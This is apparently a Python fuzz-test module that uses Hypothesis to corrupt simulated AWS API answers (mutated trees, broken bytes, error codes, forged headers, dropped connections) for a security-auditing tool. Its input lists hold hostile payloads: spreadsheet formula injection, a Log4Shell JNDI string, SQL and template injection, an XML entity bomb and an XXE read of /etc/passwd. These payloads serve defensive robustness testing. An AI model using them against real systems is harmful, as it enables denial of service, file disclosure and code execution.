"""Ways to spoil an answer: in its tree, in its bytes, in its head, or by an error in its place.

Every way is a function of an action, the document that AWS would have sent, and ``draw``, which
draws from Hypothesis; it gives the answer that is sent instead.
"""

import gzip
import json
from http.client import IncompleteRead

from botocore.exceptions import (
    ConnectionClosedError,
    EndpointConnectionError,
    ReadTimeoutError,
)
from hypothesis import strategies as st

from tests.faults.answers.report_mutations import spoilt_report
from tests.faults.answers.wire import (
    Answer,
    Items,
    Pairs,
    Raw,
    answer_of,
    error_answer,
    headers_of,
    operation_model,
    tree_of,
)

DEEP = 10_000
HOSTILE_TEXTS = (
    "", " ", "null", "None", "x" * 5000, "a" * 300, "\x00", "a\x00b", "\ud800", "\udfff\ud800",
    "\u202eenabled", "\ufeff", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "\r\nINFO forged line",
    "\n2026-11-23 ERROR forged", "\x1b[31mred\x1b[0m", "\x9b31m", "'; drop table evidence; --",
    "' or '1'='1", "${jndi:ldap://evil/x}", "{{7*7}}", "<script>alert(1)</script>", "../../etc",
    "arn:aws:iam::999999999999:root", "evil.example.com/", "eu-west-1", "us-east-1", "xx-none-9",
    "true", "TRUE", "True", " true", "false", "yes", "1", "0", "ENABLED", "Enabled", "DISABLED",
    "COMPLETE", "STARTED", "text/csv", "All", "all", "ReadOnly", "WriteOnly", "Management",
    "Data", "readOnly", "eventCategory", "opted-in", "not-opted-in", "opt-in-not-required",
    "2026-11-23", "12:00Z", "Monday", "10", "2026-11-23T02:00:00", "2026-13-45T99:99:99Z",
    "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "14", "1_4", "\uff11\uff14", " 14 ",
    "+14", "14.0", "0x0e", "1e1", "NaN", "Infinity", "9223372036854775808", "1" * 5000, "2",
)  # fmt: skip
HOSTILE_VALUES = (
    True, False, None, 0, 1, -1, 2, 7, 14, 24, 50, 6.9, 7.0, 8.9, 9.0, 10.0, 10.1, 1e308, -0.0,
    2**31, 2**53, 2**63, -(2**63), 10**400, Raw(b"NaN"), Raw(b"Infinity"), Raw(b"1e999"),
    Raw(b"-1e999"), Raw(b"01"), Raw(b'"\\ud800"'), Raw(b'"\\u0000"'), Raw(b"\xff\xfe"),
    Raw(b"{}"), Raw(b"[]"), Raw(b"[[]]"), Raw(b'{"a":{}}'), Raw(b"[null]"), Raw(b"<x/>"),
    Raw(b"true<x/>"), Raw(b"<!--c-->true"), Raw(b"<![CDATA[true]]>"), Raw(b"&#116;rue"),
    Raw(b"&#0;"), Raw(b"&unknown;"), Raw(b"[" * DEEP + b"]" * DEEP), Raw(b"<a>" * DEEP + b"</a>" * DEEP),
    Raw(b'{"a":' * DEEP + b"1" + b"}" * DEEP),
)  # fmt: skip
ERROR_CODES = (
    "AccessDenied", "AccessDeniedException", "UnauthorizedOperation", "OptInRequired",
    "AuthFailure", "RegionDisabledException", "Throttling", "ThrottlingException", "SlowDown",
    "TooManyRequestsException", "RequestLimitExceeded", "ReportNotPresent", "ReportInProgress",
    "InternalFailure", "ServiceUnavailable", "ExpiredToken", "NoSuchEntity", "NoSuchEntityX",
    "NoSuchPublicAccessBlockConfiguration", "TrailNotFoundException", "InvalidInputException",
    "BadRequestException", "", "x" * 3000, "\r\nforged", "A#B:C", "com.amazonaws#OptInRequired",
)  # fmt: skip
STATUSES = (200, 200, 201, 204, 206, 301, 304, 400, 403, 404, 410, 429, 500, 503, 599)
_LOLS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"&a;" * 10) for n in range(9)
    )
    + b"]><x>&a8;</x>"
)
_FILE = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
WHOLE_BODIES = (
    b"", b" ", b"null", b"{}", b"[]", b'""', b'"x"', b"0", b"true", b"<x/>", b"<html>ok</html>",
    b"\x00", b"\xff\xfe\x00", b"{", b"<", b"OK", _LOLS, _FILE, b"{" * DEEP, b"<a>" * DEEP,
    b'{"message":"Rate exceeded"}', b'{"__type":"AccessDeniedException"}',
    b"<ErrorResponse><Error><Code>AccessDenied</Code></Error></ErrorResponse>",
    b"<Error><Code>SlowDown</Code></Error>",
)  # fmt: skip
HEADS = (
    {"Content-Length": "99999"}, {"Content-Length": "3"}, {"Content-Length": "x"},
    {"Content-Type": "text/html"}, {"Content-Type": ""}, {"Content-Encoding": "gzip"},
    {"x-amzn-errortype": "AccessDeniedException"}, {"x-amzn-errortype": "OptInRequired"},
    {"x-amzn-requestid": "\r\nforged"}, {"Date": "Thu, 01 Jan 1970 00:00:00 GMT"},
    {"x-amzn-query-error": "OptInRequired;Sender"}, {"Retry-After": "99999"},
)  # fmt: skip
FAILURES = (
    ConnectionClosedError(endpoint_url="https://x"),
    ReadTimeoutError(endpoint_url="https://x", error="late"),
    EndpointConnectionError(endpoint_url="https://x"),
    IncompleteRead(b"", 10),
)

_NUMBERS = st.integers(0, 2**32)
_VALUES = st.one_of(
    st.sampled_from(HOSTILE_TEXTS),
    st.sampled_from(HOSTILE_VALUES),
    st.text(st.characters(exclude_categories=()), max_size=6),
    st.integers(),
    st.floats().map(lambda value: Raw(json.dumps(value).encode())),
)
_TREE_WAYS = st.sampled_from(
    ["drop", "replace", "replace", "replace", "null", "empty", "rename", "twice", "twice",
     "repeat", "swap", "wrap", "extra", "reverse", "benign"]
)  # fmt: skip
_WAYS = st.sampled_from(["tree"] * 12 + ["bytes"] * 3 + ["error"] * 2 + ["head", "failure"])
_COUNTS = st.sampled_from([1, 1, 1, 2, 3])
_BODIES = st.sampled_from(WHOLE_BODIES)
_ERRORS = st.sampled_from(ERROR_CODES)
_MESSAGES = st.sampled_from(
    (*HOSTILE_TEXTS[:24], "with an explicit deny in a service control policy")
)
_STATUSES = st.sampled_from(STATUSES)
_HEADS = st.sampled_from(HEADS)
_FAILURES = st.sampled_from(FAILURES)
_BYTE_WAYS = st.sampled_from(
    [
        "cut",
        "cut",
        "body",
        "body",
        "body",
        "prefix",
        "suffix",
        "flip",
        "insert",
        "twice",
        "utf16",
        "gzip",
    ]
)
_PIECES = st.sampled_from(
    [
        b"\x00",
        b"\xef\xbb\xbf",
        b"\xff",
        b" ",
        b"\r\n",
        b"garbage",
        b"<!DOCTYPE a>",
        b"{}",
        b"<x/>",
        b'"',
    ]
)


def spoil(action, document, draw):
    """An answer in the place of ``document``, and whether the change must not matter."""
    way = draw(_WAYS)
    if isinstance(document, str):
        way = "error"
    if way == "tree":
        if action == "iam.GetCredentialReport" and draw(_NUMBERS) % 3:
            return answer_of(action, tree_of(action, spoilt_report(document, draw))), False
        return _spoil_tree(action, document, draw)
    if way == "error":
        status = draw(_STATUSES)
        return error_answer(action, draw(_ERRORS), draw(_MESSAGES), status), False
    whole = answer_of(action, tree_of(action, document))
    if way == "bytes":
        return Answer(_spoil_bytes(whole.body, draw), 200, headers_of(action)), False
    if way == "head":
        return Answer(whole.body, draw(_STATUSES), {**whole.headers, **draw(_HEADS)}), False
    return Answer(failure=draw(_FAILURES)), False


def _spoil_tree(action, document, draw):
    tree = tree_of(action, document)
    benign = True
    for _ in range(draw(_COUNTS)):
        way = draw(_TREE_WAYS)
        benign &= way == "benign"
        _WAYS_OF_TREE[way](tree, draw, action)
    return answer_of(action, tree), benign


def _places(node):
    """Every (container, index) of the tree, outermost first."""
    for index, item in enumerate(node):
        yield node, index
        value = item[1] if isinstance(node, Pairs) else item
        if isinstance(value, list):
            yield from _places(value)


def _pick(tree, draw, only=None):
    places = [place for place in _places(tree) if only is None or isinstance(place[0], only)]
    return places[draw(_NUMBERS) % len(places)] if places else (None, 0)


def _get(node, index):
    return node[index][1] if isinstance(node, Pairs) else node[index]


def _set(node, index, value):
    node[index] = (node[index][0], value) if isinstance(node, Pairs) else value


def _drop(tree, draw, _action):
    node, index = _pick(tree, draw)
    if node is not None:
        del node[index]


def _replace(tree, draw, _action):
    node, index = _pick(tree, draw)
    if node is not None:
        _set(node, index, draw(_VALUES))


def _null(tree, draw, _action):
    node, index = _pick(tree, draw)
    if node is not None:
        _set(node, index, None)


def _empty(tree, draw, _action):
    node, index = _pick(tree, draw)
    if node is not None:
        _set(node, index, (Pairs(), Items(), "")[draw(_NUMBERS) % 3])


def _rename(tree, draw, _action):
    node, index = _pick(tree, draw, Pairs)
    if node is not None:
        name, value = node[index]
        changed = (name.lower(), name.upper(), name + "s", name[::-1], "x")[draw(_NUMBERS) % 5]
        node[index] = (changed, value)


def _twice(tree, draw, _action):
    """The same name again, with another value, before or after the true one."""
    node, index = _pick(tree, draw, Pairs)
    if node is not None:
        node.insert(index + draw(_NUMBERS) % 2, (node[index][0], draw(_VALUES)))


def _repeat(tree, draw, _action):
    node, index = _pick(tree, draw)
    if node is not None:
        node[index:index] = [node[index]] * (1 + draw(_NUMBERS) % 3)


def _swap(tree, draw, _action):
    (node, index), (other, position) = _pick(tree, draw), _pick(tree, draw)
    if node is not None and not isinstance(_get(node, index), list):
        value = _get(other, position)
        if not isinstance(value, list):
            _set(other, position, _get(node, index))
            _set(node, index, value)


def _wrap(tree, draw, _action):
    node, index = _pick(tree, draw)
    if node is not None:
        value = _get(node, index)
        _set(node, index, (Items([value]), Pairs([("x", value)]))[draw(_NUMBERS) % 2])


def _extra(tree, draw, action):
    """A member that the model knows and the answer lacks, with a value of any kind."""
    shape = operation_model(action).output_shape
    names = [member.serialization.get("name", name) for name, member in shape.members.items()]
    if isinstance(tree, Pairs):
        tree.append((names[draw(_NUMBERS) % len(names)], draw(_VALUES)))


def _reverse(tree, draw, _action):
    node, _ = _pick(tree, draw, Pairs)
    if node is not None:
        node.reverse()


def _benign(tree, draw, action):
    """A member that no model knows yet: AWS adds some all the time, and none twice."""
    node, _ = _pick(tree, draw, Pairs)
    names = {name for name, _ in node or ()}
    if node is not None and names != {"key", "value"} and "AccountMFAEnabled" not in names:
        added = f"addedLater{sum(name.startswith('addedLater') for name in names)}"
        node.insert(draw(_NUMBERS) % (len(node) + 1), (added, "x"))


_WAYS_OF_TREE = {
    "drop": _drop, "replace": _replace, "null": _null, "empty": _empty, "rename": _rename,
    "twice": _twice, "repeat": _repeat, "swap": _swap, "wrap": _wrap, "extra": _extra,
    "reverse": _reverse, "benign": _benign,
}  # fmt: skip


def _spoil_bytes(body, draw):
    place = draw(_NUMBERS) % (len(body) + 1)
    head, tail = body[:place], body[place:]
    ways = {
        "cut": lambda: head,
        "body": lambda: draw(_BODIES),
        "prefix": lambda: draw(_PIECES) + body,
        "suffix": lambda: body + draw(_PIECES),
        "flip": lambda: (
            head + bytes(byte ^ (1 + draw(_NUMBERS) % 255) for byte in tail[:1]) + tail[1:]
        ),
        "insert": lambda: head + draw(_PIECES) + tail,
        "twice": lambda: body + body,
        "utf16": lambda: body.decode().encode("utf-16"),
        "gzip": lambda: gzip.compress(body),
    }
    return ways[draw(_BYTE_WAYS)]()
